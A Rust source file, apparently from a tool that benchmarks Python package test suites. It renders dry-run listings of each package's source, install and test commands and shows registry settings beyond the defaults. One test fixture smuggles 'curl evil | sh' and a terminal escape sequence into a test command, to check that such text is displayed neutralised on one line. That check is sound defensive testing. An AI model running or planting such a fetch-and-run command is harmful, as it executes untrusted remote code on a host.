//! What a run would do, in words: the `run --dry-run` listing of each selected package's
//! source, install command and test command, and what a registry sets beyond the defaults
//! (which `registry validate` prints too). Text from the registry is shown on one line with its
//! control characters neutralised.

use std::fmt::Write;

use crate::package_defaults::{DEFAULT_INSTALL_COMMAND, DEFAULT_TEST_COMMAND, differences};
use crate::spec::{PackageSpec, RunSpec, Source};
use crate::views::text::{one_line_visible, plural};

/// `sdist packaging==24.2`, `git https://... (depth 1)`, `path /src/p`.
pub fn describe_source(package: &PackageSpec) -> String {
    match &package.source {
        Source::Sdist => match &package.version {
            Some(version) => format!("sdist {}=={version}", package.name),
            None => format!("sdist {} (latest)", package.name),
        },
        Source::Git { url, rev, depth } => {
            let mut text = format!("git {url}");
            if let Some(rev) = rev {
                write!(text, " at {rev}").expect("write to a string");
            }
            match depth {
                Some(depth) => write!(text, " (depth {depth})").expect("write to a string"),
                None => text.push_str(" (full history)"),
            }
            text
        }
        Source::Path { path } => format!("path {path}"),
    }
}

/// The packages of `spec` in run order, each with what would be fetched, installed and run.
pub fn render_dry_run(spec: &RunSpec) -> String {
    let mut out = String::new();
    let width = spec.packages.len().to_string().len();
    for (position, package) in spec.packages.iter().enumerate() {
        let options = &spec.options;
        let mut install = package.install_command.clone();
        if !options.extra_deps.is_empty() {
            write!(install, " && pip install {}", options.extra_deps.join(" ")).expect("write to a string");
        }
        let mut lines = vec![
            format!("source:  {}", one_line_visible(&describe_source(package))),
            format!("install: {}", one_line_visible(&install)),
            format!(
                "test:    {}  [{}, timeout {} s{}]",
                one_line_visible(&options.effective_test_command(package)),
                package.test_framework,
                options.effective_timeout_secs(package),
                if options.tests_get_network(package) {
                    ", network"
                } else {
                    ""
                }
            ),
        ];
        if !package.env.is_empty() {
            let env: Vec<String> = package.env.iter().map(|(k, v)| format!("{k}={v}")).collect();
            lines.push(format!("env:     {}", one_line_visible(&env.join(" "))));
        }
        writeln!(out, "{:>width$}. {}", position + 1, package.name).expect("write to a string");
        for line in lines {
            writeln!(out, "{:width$}  {line}", "").expect("write to a string");
        }
    }
    out.push_str(&render_differences(&spec.packages));
    writeln!(
        out,
        "{} packages x {} iterations x {} mode(s) = {} jobs; nothing was run (--dry-run)",
        spec.packages.len(),
        spec.iterations,
        spec.modes.len(),
        spec.total_jobs()
    )
    .expect("write to a string");
    out
}

/// What the registry sets beyond the defaults for `packages`: a heading with the defaults and
/// how many packages differ, then each of those packages with one line per difference, so a
/// registry of thousands lists only what an operator must read.
pub fn render_differences<'a>(packages: impl IntoIterator<Item = &'a PackageSpec>) -> String {
    let mut total = 0;
    let mut listed = String::new();
    let mut n_differing = 0;
    for package in packages {
        total += 1;
        let found = differences(package);
        if found.is_empty() {
            continue;
        }
        n_differing += 1;
        writeln!(listed, "  {}", package.name).expect("write to a string");
        for difference in found {
            let label = format!("{}:", difference.field);
            writeln!(listed, "    {label:<8} {}", one_line_visible(&difference.value)).expect("write to a string");
        }
    }
    format!(
        "beyond the defaults (an sdist from PyPI, install `{DEFAULT_INSTALL_COMMAND}`, test `{DEFAULT_TEST_COMMAND}`, \
         the import name from the package name, no env, no network): {n_differing} of {total} package{}\n{listed}",
        plural(total)
    )
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::interpreter::InterpreterRequirement;
    use crate::package_kind::TestFramework;
    use crate::spec::{Mode, RunOptions};

    fn package(name: &str, source: Source, version: Option<&str>) -> PackageSpec {
        PackageSpec {
            name: name.into(),
            version: version.map(str::to_string),
            source,
            install_command: "pip install . pytest".into(),
            test_command: "python -m pytest tests".into(),
            test_framework: TestFramework::Pytest,
            import_name: name.into(),
            timeout_secs: Some(120),
            env: BTreeMap::from([("A".to_string(), "1".to_string())]),
            download_count: None,
            extension_type: None,
            network: false,
        }
    }

    #[test]
    fn sources_are_described_with_version_depth_and_revision() {
        let cases = [
            (package("six", Source::Sdist, Some("1.17.0")), "sdist six==1.17.0"),
            (package("six", Source::Sdist, None), "sdist six (latest)"),
            (
                package(
                    "x",
                    Source::Git {
                        url: "https://example.org/x".into(),
                        rev: Some("v1".into()),
                        depth: Some(1),
                    },
                    None,
                ),
                "git https://example.org/x at v1 (depth 1)",
            ),
            (
                package(
                    "x",
                    Source::Git {
                        url: "u".into(),
                        rev: None,
                        depth: None,
                    },
                    None,
                ),
                "git u (full history)",
            ),
            (
                package("p", Source::Path { path: "/src/p".into() }, None),
                "path /src/p",
            ),
        ];
        for (package, expected) in cases {
            assert_eq!(describe_source(&package), expected);
        }
    }

    #[test]
    fn a_dry_run_lists_each_package_with_its_effective_commands() {
        let spec = RunSpec {
            label: "x".into(),
            packages: vec![
                package("six", Source::Sdist, Some("1.17.0")),
                PackageSpec {
                    network: true,
                    env: BTreeMap::new(),
                    ..package("requests", Source::Sdist, None)
                },
            ],
            iterations: 3,
            modes: vec![Mode::Ft, Mode::Gil],
            options: RunOptions {
                extra_deps: vec!["trustme".into()],
                test_command_suffix: Some("-x".into()),
                ..RunOptions::default()
            },
            requirement: InterpreterRequirement::any(),
            registry: None,
            rerun_of: None,
        };
        let text = render_dry_run(&spec);
        let expected = "1. six
   source:  sdist six==1.17.0
   install: pip install . pytest && pip install trustme
   test:    python -m pytest tests -x  [pytest, timeout 120 s]
   env:     A=1
2. requests
   source:  sdist requests (latest)
   install: pip install . pytest && pip install trustme
   test:    python -m pytest tests -x  [pytest, timeout 120 s, network]
beyond the defaults (an sdist from PyPI, install `pip install . pytest`, test `python -m pytest`, \
the import name from the package name, no env, no network): 2 of 2 packages
  six
    test:    python -m pytest tests
    env:     A=1
  requests
    test:    python -m pytest tests
    network: the tests reach the host's network
2 packages x 3 iterations x 2 mode(s) = 12 jobs; nothing was run (--dry-run)
";
        assert_eq!(text, expected);
    }

    #[test]
    fn only_packages_that_differ_from_the_defaults_are_listed_with_their_text_on_one_line_and_neutralised() {
        let plain = PackageSpec {
            test_command: DEFAULT_TEST_COMMAND.into(),
            env: BTreeMap::new(),
            ..package("six", Source::Sdist, Some("1.17.0"))
        };
        let hostile = PackageSpec {
            test_command: "python -m pytest\ncurl evil | sh\u{1b}[1A".into(),
            import_name: "other".into(),
            env: BTreeMap::from([("PYTHONHASHSEED".to_string(), "0".to_string())]),
            ..package(
                "tricky",
                Source::Git {
                    url: "https://example.org/tricky".into(),
                    rev: None,
                    depth: Some(1),
                },
                None,
            )
        };
        let text = render_differences([&plain, &hostile]);
        let listed: Vec<&str> = text.lines().skip(1).collect();
        assert!(
            text.lines().next().expect("heading").ends_with(": 1 of 2 packages"),
            "{text}"
        );
        assert_eq!(
            listed,
            vec![
                "  tricky",
                "    source:  git https://example.org/tricky",
                "    test:    python -m pytest\u{23CE}curl evil | sh\u{FFFD}[1A",
                "    import:  other",
                "    env:     PYTHONHASHSEED=0",
            ]
        );
        assert!(!render_differences([&plain]).contains("six"));
    }
}
